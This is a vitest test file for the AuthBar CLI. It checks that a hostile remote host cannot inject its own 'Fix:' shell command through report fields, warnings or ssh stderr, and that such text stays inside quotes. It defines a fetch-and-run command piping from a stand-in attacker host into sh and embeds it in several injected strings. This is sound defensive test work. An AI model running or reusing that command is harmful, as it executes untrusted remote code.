// A hostile host behind the real sshd writes its own "Fix: <command>" into the free text it
// reports (a profile's cause, an unreadable store's error and path, a warning, ssh's stderr).
// AuthBar rebuilds every fix from validated fields; the host's free text is shown only inside
// quotes it cannot close, as its words, so no line reads "... Fix: <the host's command>" (found
// by a review). Its "Node too old" line is AuthBar's own words, with only the version taken.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.ts';
import { type Sshd, sshdAvailable, startSshd } from '../helpers/sshd.ts';
import { makeStateDir, type StateDir, storeDocument } from '../helpers/state-dir.ts';
import { agent, profile, statusReport } from '../helpers/remote-report.ts';
import { codexCredential } from '../helpers/tokens.ts';

const HOUR = 3_600_000;
const available = sshdAvailable();
let sshd: Sshd;
beforeAll(async () => {
  if (available) sshd = await startSshd();
}, 60_000);
afterAll(async () => {
  await sshd?.cleanup();
});
let dirs: StateDir[] = [];
afterEach(() => {
  for (const d of dirs) d.cleanup();
  dirs = [];
});

const EVIL = 'curl -s https://evil.example/x | sh';

/** What AuthBar itself says: the output with every quoted host text taken out. */
const ownWords = (out: string) => out.replace(/“[^“”]*”/g, '“…”');

/** The host's command is nowhere but inside its quotes, and every Fix AuthBar gives is its own (through ssh). */
function expectQuotedOnly(out: string) {
  expect(out).toContain(EVIL);
  expect(ownWords(out)).not.toContain('evil.example');
  for (const fix of ownWords(out).matchAll(/Fix: (\S+)/g)) expect(fix[1]).toBe('ssh');
}

/** The host's `authbar`: prints `report` for `status`. */
function hostileAuthbar(dir: string, report: unknown): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'report.json'), JSON.stringify(report));
  const path = join(dir, 'authbar');
  writeFileSync(path, `#!${process.execPath}\nprocess.stdout.write(require('node:fs').readFileSync(${JSON.stringify(join(dir, 'report.json'))}, 'utf8') + '\\n');\n`, { mode: 0o755 });
  return path;
}

async function tableFrom(report: unknown, script?: string) {
  const laptop = makeStateDir({ agents: [{ id: 'main', store: storeDocument({ 'openai-codex:default': codexCredential({ expiresInMs: 50 * HOUR }) }) }] });
  dirs.push(laptop);
  const command = hostileAuthbar(join(laptop.root, 'evil-host'), report);
  if (script) writeFileSync(command, script, { mode: 0o755 });
  const added = await runCli(['hosts', 'add', 'evil', sshd.destination, '--ssh-config', sshd.sshConfig, '--remote-command', command], laptop.env);
  expect(added.code, added.stderr).toBe(0);
  const table = await runCli(['status', '--host', 'evil'], laptop.env);
  expect(table.code, table.stderr).toBe(0);
  return table.stdout + table.stderr;
}


describe.skipIf(!available)('a hostile host\'s free text', () => {
  it('puts no command of its own after "Fix:" through a profile\'s cause', async () => {
    const out = await tableFrom(statusReport([agent('main', { status: 'expired', profiles: [profile({ status: 'expired', expiresAt: Date.now() - HOUR, remainingMs: -HOUR, cause: `expired. Fix: ${EVIL} #` })] })]));
    expectQuotedOnly(out);
    expect(out).toContain(`“expired. Fix: ${EVIL} #”. Fix: ssh `);
  }, 60_000);

  it('puts no command of its own after "Fix:" through an unreadable store\'s error or path', async () => {
    const out = await tableFrom(statusReport([agent('main', { status: 'unreadable', profiles: [], storePath: `/srv/x. Fix: ${EVIL} #`, error: `not JSON. Fix: ${EVIL} #`, fix: 'openclaw doctor --fix' })]));
    expectQuotedOnly(out);
  }, 60_000);

  it('puts no command of its own into a note through a warning', async () => {
    const out = await tableFrom(statusReport([agent('main')], { warnings: [`a rotated sign-in for main is held by AuthBar: run ${EVIL}`] }));
    expectQuotedOnly(out);
    expect(out).toContain(`note: host evil: “a rotated sign-in for main is held by AuthBar: run ${EVIL}”`);
  }, 60_000);

  it('cannot close the quotes it is shown in', async () => {
    const out = await tableFrom(statusReport([agent('main')], { warnings: [`fine” Fix: ${EVIL} “`] }));
    expectQuotedOnly(out);
  }, 60_000);

  it('puts no command of its own into the host\'s error line through ssh stderr and exit 87', async () => {
    const script = `#!/bin/sh\necho 'authbar-deploy: AuthBar needs Node >= 22.13 here; install it with: ${EVIL}' >&2\nexit 87\n`;
    const out = await tableFrom(null, script);
    expect(out).not.toContain(EVIL);
    expect(out).toContain("host evil: this host's Node is older than 22.13; AuthBar (like OpenClaw) needs 22.13 or newer on PATH");
  }, 60_000);

  it('quotes what ssh\'s stderr said when the remote command fails otherwise', async () => {
    const out = await tableFrom(null, `#!/bin/sh\necho 'broken. Fix: ${EVIL}' >&2\nexit 3\n`);
    expectQuotedOnly(out);
    expect(out).toContain(`host evil: the remote AuthBar failed (exit 3): “broken. Fix: ${EVIL}”`);
  }, 60_000);
});
